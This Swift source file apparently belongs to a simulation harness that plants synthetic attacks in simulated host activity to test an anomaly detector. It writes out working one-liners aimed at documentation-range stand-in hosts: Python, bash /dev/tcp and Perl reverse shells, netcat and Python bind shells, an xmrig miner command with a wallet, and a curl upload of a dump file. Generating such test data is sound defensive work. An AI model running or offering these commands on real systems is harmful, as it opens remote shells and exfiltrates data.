import RarenetEvents

/// One attack to plant: its technique, what it runs, and how it starts its
/// processes (at `launch.time`, their pids are the attack's).
struct AttackPlan {
    var technique: AttackTechnique
    var summary: String
    var run: (inout Launch) -> Void
}

/// Plants attacks at varied times after the learning day: each on a day of
/// its own (a shuffled list of days 1 and later) at a uniformly drawn time of
/// day, nights and weekends included.
struct PlantedAttacks: Workload {
    private var scheduled: [(time: Int64, plan: AttackPlan)]
    private var random: ScenarioRandom

    init(seed: UInt64, calendar: ScenarioCalendar, plans: [AttackPlan]) {
        var random = ScenarioRandom(seed: seed, label: "planted attacks")
        var days = Array(1..<max(2, calendar.days))
        for index in days.indices.reversed() {
            days.swapAt(index, Int(random.below(UInt64(index + 1))))
        }
        scheduled = plans.enumerated().map { index, plan in
            let time = calendar.time(day: days[index % days.count]) + random.int64(in: 0..<TimeUnit.day - TimeUnit.hour)
            return (time, plan)
        }
        self.random = random
    }

    mutating func startProcesses(in window: Range<Int64>, on host: HostSimulation) {
        for (time, plan) in scheduled where window.contains(time) {
            var launch = Launch(host: host, random: random.split(), time: time)
            launch.attack = host.plant(plan.technique, summary: plan.summary)
            plan.run(&launch)
        }
    }
}

/// Where an attack's process runs: on the host, or in a container that is
/// found (an established pod) or made (a poisoned pipeline's) when the
/// attack starts.
struct AttackPlace {
    /// How the report names it: ` in a running container of …`.
    var description: String
    /// The container and the address its connects leave from; `nil` on the host.
    var enter: ((inout Launch) -> (container: Container, address: IPAddress))?

    static var host: AttackPlace { AttackPlace(description: "", enter: nil) }

    /// A new container of `image` on Docker's default bridge.
    static func newDockerContainer(image: String) -> AttackPlace {
        AttackPlace(description: " in a new container of \(image)") { launch in
            let container = RunningContainer(dockerImage: image, launch: &launch)
            return (container.container, container.address)
        }
    }

    /// The newest running container of `repository` (an established pod).
    static func runningContainer(of repository: String) -> AttackPlace {
        AttackPlace(description: " in a running container of \(repository)") { launch in
            guard let running = launch.host.newestContainer(of: repository) else { preconditionFailure("no container of \(repository) runs") }
            return running
        }
    }
}

/// The processes of the planted techniques, for the profiles to place in
/// their own accounts, interpreters and containers.
enum Attacks {
    static let reverseShellServer = Endpoint("203.0.113.66", 4444)
    static let bashListener = Endpoint("198.51.100.23", 9001)
    static let perlListener = Endpoint("198.51.100.47", 8080)
    static let miningPool = Endpoint("203.0.113.201", 3333)
    static let commandAndControl = Endpoint("198.51.100.77", 443)
    static let exfiltrationSite = Endpoint("203.0.113.140", 443)
    static let scriptCallback = Endpoint("203.0.113.99", 443)
    /// A port in the dynamic range (Cobalt Strike's team server default), where
    /// an attacker who knows rare_port keys such ports by class would hide.
    static let dynamicPortCallback = Endpoint("203.0.113.99", 50050)

    /// The plan that runs `spec` for a draw of `lifetime` in `place`, started
    /// by a shell the attacker got (a parent that makes no network events).
    private static func plan(
        _ technique: AttackTechnique, _ summary: String, _ spec: ProcessSpec, lasting lifetime: Lifetime, in place: AttackPlace
    ) -> AttackPlan {
        AttackPlan(technique: technique, summary: summary + place.description) { launch in
            var spec = spec
            var source: IPAddress?
            if let enter = place.enter {
                let entered = enter(&launch)
                spec.image.container = entered.container
                source = entered.address
            }
            let shell = launch.reservePID()
            launch.run(spec, lasting: lifetime, parent: shell, source: source)
        }
    }

    /// `python3 -c` with a reverse shell, through the interpreter the host or image already runs.
    static func pythonInline(interpreter: String, invokedAs: String, account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let target = reverseShellServer
        let code = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            + "s.connect((\"\(target.address)\",\(target.port)));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
            + "os.dup2(s.fileno(),2);import pty;pty.spawn(\"/bin/bash\")"
        let spec = Programs.command(interpreter, [invokedAs, "-c", code], account: account, connects: [target, target],
                                    activity: "attack", comm: ProcessImage.basename(of: invokedAs))
        return plan(.pythonInlineReverseShell, "\(invokedAs) -c reverse shell as \(account.label) to \(target.label)", spec,
                    lasting: .minutes(5...40), in: place)
    }

    /// `/bin/bash -c 'bash -i >& /dev/tcp/…'`: the shell that redirects connects.
    static func bashInteractive(account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let target = bashListener
        let spec = Programs.command("/usr/bin/bash", ["/bin/bash", "-c", "bash -i >& /dev/tcp/\(target.address)/\(target.port) 0>&1"],
                                    account: account, connects: [target], activity: "attack")
        return plan(.bashInteractiveReverseShell, "bash -i >& /dev/tcp as \(account.label) to \(target.label)", spec,
                    lasting: .minutes(5...30), in: place)
    }

    /// `perl -e` with the classic socket one-liner.
    static func perlInline(account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let target = perlListener
        let code = "use Socket;$i=\"\(target.address)\";$p=\(target.port);socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
            + "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"
        let spec = Programs.command("/usr/bin/perl", ["perl", "-e", code], account: account, connects: [target], activity: "attack")
        return plan(.perlInlineReverseShell, "perl -e reverse shell as \(account.label) to \(target.label)", spec,
                    lasting: .minutes(5...30), in: place)
    }

    /// xmrig (or a renamed copy) mining to a pool on 3333, reconnecting now and then.
    static func miner(executable: String, account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let pool = miningPool
        var spec = Programs.command(executable, [executable, "-o", "\(pool.address):\(pool.port)", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                                                 "-k", "--donate-level", "1", "--background"],
                                    account: account, connects: [pool], activity: "attack")
        spec.traffic = [Traffic(pool, chance: 0.5, connects: 1...1)]
        return plan(.miner, "miner \(executable) as \(account.label) to \(pool.label)", spec, lasting: .minutes(40...70), in: place)
    }

    /// A dropped binary that names itself after a daemon (`comm`) and beacons to 443.
    static func masquerade(executable: String, comm: String, account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let server = commandAndControl
        var spec = Programs.command(executable, ["[\(comm)]"], account: account, connects: [server], activity: "attack", comm: comm)
        spec.traffic = [Traffic(server, chance: 1, connects: 1...2)]
        return plan(.masquerade, "\(executable) named \(comm) as \(account.label), beaconing to \(server.label)", spec,
                    lasting: .minutes(20...45), in: place)
    }

    /// `nc -lvp 4444` (OpenBSD netcat) waiting for the attacker.
    static func netcatBindShell(account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let spec = ProcessSpec(
            image: ProcessImage("/usr/bin/nc.openbsd", ["nc", "-lvp", "4444"], account: account, comm: "nc"),
            activity: "attack", opening: [.listen(Endpoint("0.0.0.0", 4444))]
        )
        return plan(.bindShell, "nc -lvp 4444 as \(account.label)", spec, lasting: .minutes(30...90), in: place)
    }

    /// An implant run from /var/tmp and deleted, beaconing every few minutes.
    static func deletedImplant(account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let server = commandAndControl
        let path = "/var/tmp/.font-cache/fc-update"
        var spec = Programs.command(path + ProcessImage.deletedSuffix, [path], account: account, connects: [server], activity: "attack")
        spec.traffic = [Traffic(server, chance: 1, connects: 2...3)]
        return plan(.deletedImplant, "\(path) (deleted) as \(account.label), beaconing to \(server.label)", spec,
                    lasting: .minutes(50...80), in: place)
    }

    /// A static binary downloaded to /tmp inside a container, using the container's credentials.
    static func toolInContainer(_ tool: String, arguments: [String], to destination: Endpoint, account: Account, in place: AttackPlace) -> AttackPlan {
        let path = "/tmp/\(tool)"
        let spec = Programs.command(path, [path] + arguments, account: account, connects: [destination, destination], activity: "attack")
        return plan(.toolInContainer, "\(path) as \(account.label) to \(destination.label)", spec, lasting: .seconds(5...40), in: place)
    }

    /// `curl -T` of a dump, by an account that never runs curl.
    static func curlExfiltration(account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let site = exfiltrationSite
        let spec = Programs.curl(["-sT", "/tmp/dump.tgz", "https://transfer.example.net/dump.tgz"], account: account, to: site, activity: "attack")
        return plan(.exfiltrationByNewCurlUser, "curl -T dump.tgz as \(account.label) to \(site.label)", spec,
                    lasting: .seconds(20...120), in: place)
    }

    /// `ssh` by a service account, to another host of the network.
    static func sshByServiceAccount(account: Account, to destination: Endpoint, in place: AttackPlace = .host) -> AttackPlan {
        let spec = Programs.ssh(account: account, to: destination, remoteCommand: ["-o", "StrictHostKeyChecking=no"], activity: "attack")
        return plan(.sshByServiceAccount, "ssh as \(account.label) to \(destination.label)", spec, lasting: .minutes(2...20), in: place)
    }

    /// `python3 -c` binding a shell to 0.0.0.0:8001.
    static func pythonBindShell(interpreter: String, invokedAs: String, account: Account, in place: AttackPlace = .host) -> AttackPlan {
        let code = "import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
            + "s.bind((\"0.0.0.0\",8001));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
        let spec = ProcessSpec(
            image: ProcessImage(interpreter, [invokedAs, "-c", code], account: account, comm: ProcessImage.basename(of: invokedAs)),
            activity: "attack", opening: [.listen(Endpoint("0.0.0.0", 8001))]
        )
        return plan(.pythonBindShell, "\(invokedAs) -c bind shell on 0.0.0.0:8001 as \(account.label)", spec,
                    lasting: .minutes(20...60), in: place)
    }

    /// An established python3 script, trojaned: the same command line, one more connect, to 443.
    static func scriptReverseShell(_ image: ProcessImage, in place: AttackPlace = .host) -> AttackPlan {
        trojanedScript(.scriptReverseShell, image, calling: scriptCallback, in: place)
    }

    /// The same trojaned script calling back to a public port in the dynamic
    /// range, the class a CI runner's Testcontainers ports never fill.
    static func scriptDynamicPortCallback(_ image: ProcessImage, in place: AttackPlace = .host) -> AttackPlan {
        trojanedScript(.scriptDynamicPortCallback, image, calling: dynamicPortCallback, in: place)
    }

    private static func trojanedScript(_ technique: AttackTechnique, _ image: ProcessImage, calling target: Endpoint, in place: AttackPlace) -> AttackPlan {
        let spec = ProcessSpec(image: image, activity: "attack", opening: [.connect(target)])
        return plan(technique, "\(image.arguments.joined(separator: " ")) (trojaned) as \(image.account.label) to \(target.label)", spec,
                    lasting: .minutes(3...25), in: place)
    }
}

extension Account {
    /// The name, or `uid N`.
    var label: String { name ?? "uid \(uid)" }
}

extension Endpoint {
    /// `address:port`.
    var label: String { "\(address):\(port)" }
}
